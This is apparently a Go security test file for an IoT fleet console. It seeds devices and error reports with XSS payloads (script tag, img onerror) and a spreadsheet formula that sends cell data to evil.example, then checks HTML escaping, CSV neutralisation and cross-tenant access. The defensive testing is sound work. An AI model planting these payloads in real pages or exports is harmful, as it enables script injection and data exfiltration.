package console_test

import (
	"context"
	"fmt"
	"testing"
	"time"

	"github.com/moat-iot/moat/client"
	"github.com/moat-iot/moat/internal/device"
	"github.com/moat-iot/moat/internal/errreport"
	"github.com/moat-iot/moat/internal/identity"
	"github.com/moat-iot/moat/internal/store"
	"github.com/moat-iot/moat/internal/tenant"
	"github.com/moat-iot/moat/internal/testenv"
	"github.com/moat-iot/moat/internal/updstate"
)

// Payloads a device or a careless colleague could write, which the console must show as
// text: each sets window.__xss if it ever runs.
const (
	scriptPayload = `<script>window.__xss=1</script>`
	imgPayload    = `"><img src=x onerror=window.__xss=2>`
	// formulaPayload is a spreadsheet formula a device wrote: the CSV download must carry
	// it neutralised, as text.
	formulaPayload = `=HYPERLINK("https://evil.example/?leak="&A1,"Click me")`
	formulaID      = "00000000-0000-4000-8000-000000000099"
)

// world is tenant A (the platform's Contoso) with a fleet whose texts hold the payloads,
// and tenant B with a user who has no role in A.
type world struct {
	p        *testenv.Platform
	adminTok string
	// A's objects.
	device  string // in DW100/Production, with error reports
	evil    string // in the group whose name is a payload
	group   client.DeviceGroup
	evilGrp client.DeviceGroup
	app     testenv.Image
	// issue is the error issue of the reports whose message is scriptPayload.
	issue string
	// B: its tenant and a user of it.
	tenantB string
	tokB    string
}

func newWorld(t *testing.T, p *testenv.Platform) *world {
	t.Helper()
	ctx := t.Context()
	w := &world{p: p, adminTok: adminToken(t, p)}
	gs, err := p.Admin.ListDeviceGroups(ctx, p.Tenant, p.Product, client.ListOptions{Name: "Production"})
	if err != nil || len(gs.Items) != 1 {
		t.Fatalf("Production group: %v %v", gs, err)
	}
	w.group = gs.Items[0]
	if w.evilGrp, err = p.Admin.CreateDeviceGroup(ctx, p.Tenant, p.Product, client.DeviceGroupCreate{Name: imgPayload, OSFeed: client.OSFeedRetail, UpdatePolicy: client.UpdateAll}); err != nil {
		t.Fatal(err)
	}
	dev, evil := p.NewDevice(true, "DW100/Production"), p.NewDevice(true, "DW100/"+imgPayload)
	w.device, w.evil = dev.ID, evil.ID
	keys := map[string]*identity.FileKey{dev.ID: dev.Key, evil.ID: evil.Key}
	w.app = p.PublishApp("dw100-app", "1.0.0", 1, "DW100")
	// Both devices run the OS and the app by an accepted attestation, so that version health
	// has devices to count.
	osImg := p.PublishOS("moat-os", "1.0.0", 1, "Retail")
	for _, id := range []string{w.device, w.evil} {
		if _, err := p.Attest(testenv.Device{Key: keys[id], ID: id}, osImg.Measurement(), w.app.Measurement()); err != nil {
			t.Fatalf("attest %s: %v", id, err)
		}
	}

	// Reports as the device API would store them (the store's own path, so no attestation
	// is needed to set the scene).
	now := time.Now()
	err = p.Server.Store().InTx(ctx, func(tx store.Tx) error {
		tt, err := tx.ForTenant(tenant.ID(p.Tenant))
		if err != nil {
			return err
		}
		for i := range 5 {
			code := 1
			r := errreport.Report{ID: fmt.Sprintf("00000000-0000-4000-8000-%012d", i), Kind: errreport.AppCrash, At: now,
				ImagePath: "apps/dw100-app/1.0.0", ImageVersion: "1.0.0", Message: scriptPayload, ExitCode: &code,
				StderrTail: "panic: " + imgPayload + "\n" + scriptPayload}
			if err := tt.ErrorReports().Add(ctx, device.ID(w.device), r, now.Add(-time.Duration(i)*24*time.Hour)); err != nil {
				return err
			}
		}
		formula := errreport.Report{ID: formulaID, Kind: errreport.AppCrash, At: now,
			ImagePath: "apps/dw100-app/1.0.0", ImageVersion: "1.0.0", Message: formulaPayload, Signal: "SIGSEGV"}
		if err := tt.ErrorReports().Add(ctx, device.ID(w.device), formula, now.Add(-time.Hour)); err != nil {
			return err
		}
		return addUpdateHistory(ctx, tt, device.ID(w.device), now)
	})
	if err != nil {
		t.Fatal(err)
	}
	issues, err := p.Admin.ListErrorIssues(ctx, p.Tenant, client.ErrorIssueOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for _, is := range issues.Items {
		if is.Message == scriptPayload {
			w.issue = is.ID
		}
	}
	if w.issue == "" {
		t.Fatalf("no issue of the payload reports among %+v", issues.Items)
	}

	tb, err := p.Op.CreateTenant(ctx, client.TenantCreate{Name: "Fabrikam"})
	if err != nil {
		t.Fatal(err)
	}
	w.tenantB = tb.ID
	m, err := p.Op.CreateMember(ctx, tb.ID, client.MemberCreate{Name: "fabrikam-admin", Role: client.RoleAdministrator})
	if err != nil {
		t.Fatal(err)
	}
	w.tokB = m.Secret
	return w
}

// addUpdateHistory stores an update that downloaded and failed, with a payload as its
// message, as the device API would.
func addUpdateHistory(ctx context.Context, tt store.TenantTx, id device.ID, now time.Time) error {
	target := "apps/dw100-app/1.0.0"
	steps := []updstate.Report{
		{State: updstate.Assigned},
		{State: updstate.Downloading, BytesDone: 512 << 10, BytesTotal: 2 << 20},
		{State: updstate.Failed, Code: "health_check_failed", Message: scriptPayload},
	}
	for i, r := range steps {
		r.ID = fmt.Sprintf("00000000-0000-4000-9000-%012d", i)
		r.At, r.Kind, r.Target, r.Version = now.Add(time.Duration(i-3)*time.Minute), "app", target, "1.0.0"
		if err := tt.UpdateEvents().Add(ctx, id, r, now); err != nil {
			return err
		}
	}
	return nil
}

// aPaths are every console page of tenant A's objects, and the same objects under B's
// tenant path.
func (w *world) aPaths() []string {
	a, b := "/ui/t/"+w.p.Tenant, "/ui/t/"+w.tenantB
	grp := "/products/" + w.p.Product + "/groups/" + w.group.ID
	var out []string
	for _, t := range []string{a, b} {
		out = append(out, t+"/devices/"+w.device, t+"/devices/"+w.device+"/error-reports", t+grp, t+"/issues/"+w.issue,
			t+"/issues/"+w.issue+"?page_token=x")
	}
	return append(out, a+"/", a+"/devices", a+"/devices?product=DW100", a+"/deployments", a+"/error-reports", a+"/audit",
		a+"/devices/"+w.device+"?updates=x", a+"/issues", a+"/issues?product=DW100&sort=reports", a+"/error-reports?product="+w.p.Product+"&kind=app_crash",
		a+"/error-reports/download?format=csv", a+"/error-reports/download?format=json&group="+w.group.ID, a+"/health", a+"/health?window=30d",
		a+"/devices?product=DW100&state=failed", a+"/devices?group="+w.group.ID+"&state=current")
}

// aPosts are every console form of A's objects, under A's and B's tenant paths.
func (w *world) aPosts() []string {
	a, b := "/ui/t/"+w.p.Tenant, "/ui/t/"+w.tenantB
	grp := "/products/" + w.p.Product + "/groups/" + w.group.ID
	var out []string
	for _, t := range []string{a, b} {
		out = append(out, t+"/devices/"+w.device+"/blocked", t+"/devices/"+w.device+"/group", t+grp+"/deploy", t+grp+"/deployments")
	}
	return out
}
